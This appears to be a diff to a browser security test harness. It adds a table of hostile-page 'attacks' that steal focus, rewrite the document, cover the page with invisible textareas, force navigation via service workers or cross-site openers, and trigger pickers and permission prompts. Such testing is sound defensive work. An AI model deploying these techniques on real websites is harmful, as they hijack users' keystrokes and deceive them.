@@ -58,6 +58,7 @@ const once = (action) => {
     action();
   }, 20);
 };
+const added = () => [...document.documentElement.children].filter((element) => !['HEAD', 'BODY'].includes(element.tagName));
 /** What opens a page of another site in a tab of its own. */
 function blank(name, address) {
   const element = document.createElement(name);
@@ -97,5 +98,92 @@ const ATTACKS = {
     document.close();
     setInterval(() => document.getElementById('again')?.focus(), 10);
   }),
+  'reopen-prompt': () => once(() => { document.open(); send('prompt', prompt('Go on?')); }),
+  'remove-prompt': () => once(() => { added().forEach((element) => element.remove()); send('prompt', prompt('Go on?')); }),
+  'reopen-first': () => {
+    // Before anybody types: the new document's listeners are there before anybody else's.
+    if (document.readyState !== 'complete') return addEventListener('load', () => setTimeout(ATTACKS['reopen-first']));
+    const page = document.documentElement.innerHTML.replace(/<script.*<.script>/, '');
+    document.open();
+    record(window, 'reopened');
+    document.write(page);
+    document.close();
+    report();
+    $('source').addEventListener('input', () => { $('result').textContent = `ES ${$('source').value}`; typing = true; });
+    once(() => setInterval(() => { window.focus(); $('other').focus(); }, 20));
+  },
+  'opener-away': () => once(() => opener.postMessage(`${other}/hostile/trap.html?at=opener`, '*')),
+  client: () => once(async () => {
+    (await navigator.serviceWorker.ready).active.postMessage(['navigate', new URL('trap.html?at=client', location).href]);
+  }),
+  'client-away': () => once(async () => {
+    (await navigator.serviceWorker.ready).active.postMessage(['navigate', `${other}/hostile/trap.html?at=client-away`]);
+  }),
+  'client-window': () => once(async () => {
+    (await navigator.serviceWorker.ready).active.postMessage(['openWindow', new URL('trap.html?at=client-window', location).href]);
+  }),
+  'back-away': () => once(() => history.back()),
+  unload: () => once(() => { addEventListener('beforeunload', (event) => event.preventDefault()); location.href = 'trap.html?at=unload'; }),
+  refresh: () => once(() => { const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=trap.html?at=refresh'; document.head.append(meta); }),
+  picker: () => once(() => {
+    const select = document.createElement('select');
+    for (const letter of 'abcdefghijklmnopqrstuvwxyz') select.append(new Option(letter));
+    select.onchange = () => send('picker', select.value);
+    document.body.append(select);
+    const timer = setInterval(() => { try { select.focus(); select.showPicker(); clearInterval(timer); } catch (error) { send('refused', error); } }, 100);
+    setInterval(() => send('picked', select.value), 200);
+  }),
+  list: () => once(() => {
+    const field = document.createElement('input');
+    field.type = 'date';
+    document.body.append(field);
+    setInterval(() => { try { field.focus(); field.showPicker(); } catch (error) { send('refused', error); } send('date', field.value); }, 100);
+  }),
+  file: () => once(() => {
+    const field = document.createElement('input');
+    field.type = 'file';
+    field.onchange = () => send('file', field.value);
+    field.click();
+  }),
+  frame: () => once(() => {
+    const frame = document.createElement('iframe');
+    frame.src = `${other}/hostile/trap.html?at=frame`;
+    document.body.append(frame);
+    setInterval(() => frame.focus(), 10);
+  }),
+  'frame-first': () => {
+    const frame = document.createElement('iframe');
+    frame.src = `${other}/hostile/trap.html?at=frame-first`;
+    document.body.append(frame);
+    once(() => setInterval(() => frame.focus(), 10));
+  },
+  dialog: () => once(() => covering('dialog').showModal()),
+  popover: () => once(() => { const cover = covering('div'); cover.popover = 'manual'; cover.showPopover(); cover.firstChild.focus(); }),
+  inert: () => once(() => { document.documentElement.inert = true; $('other').focus(); }),
+  lock: () => once(() => { navigator.keyboard?.lock?.(); document.documentElement.requestFullscreen().catch((error) => send('refused', error)); document.body.requestPointerLock?.(); setInterval(() => $('other').focus(), 10); }),
+  transition: () => once(() => { document.startViewTransition?.(() => { covering('div').firstChild.focus(); }); covering('div').firstChild.focus(); }),
+  permission: () => once(() => { Notification.requestPermission().then((answer) => send('permission', answer)); }),
+  idle: () => once(() => { globalThis.IdleDetector?.requestPermission().then((answer) => send('permission', answer)); }),
+  print: () => once(() => print()),
+  paint: () => once(() => { document.documentElement.style.mixBlendMode = 'difference'; }),
+  zoom: () => once(() => { document.documentElement.style.zoom = '0.1'; covering('div').firstChild.focus(); }),
+  mask: () => once(() => { document.documentElement.style.mask = 'linear-gradient(#0000, #0000)'; covering('div').firstChild.focus(); }),
+  scroll: () => once(() => { document.documentElement.animate([{ opacity: 1 }, { opacity: 0 }], { duration: 1, fill: 'forwards' }); covering('div').firstChild.focus(); }),
 };
-ATTACKS[attack]();
+/** A field over all of the page. @param {string} name of the element around it */
+function covering(name) {
+  const cover = document.createElement(name);
+  cover.innerHTML = '<textarea autofocus style="position: fixed; inset: 0; width: 100vw; height: 100vh"></textarea>';
+  document.body.append(cover);
+  return cover;
+}
+const ways = new URLSearchParams(location.search);
+if (attack === 'opener-away' && !opener && !ways.has('there')) {
+  // The page that the user sees has been opened by another one, on another site.
+  location.replace(`${other}/hostile/opener.html?to=${encodeURIComponent(location.href + '&there')}`);
+} else if (attack === 'back-away' && !ways.has('there')) {
+  location.href = `${other}/hostile/trap.html?at=back&to=${encodeURIComponent(location.href + '&there')}`;
+} else {
+  if (attack.startsWith('client')) navigator.serviceWorker.register('worker.js');
+  ATTACKS[attack]();
+}
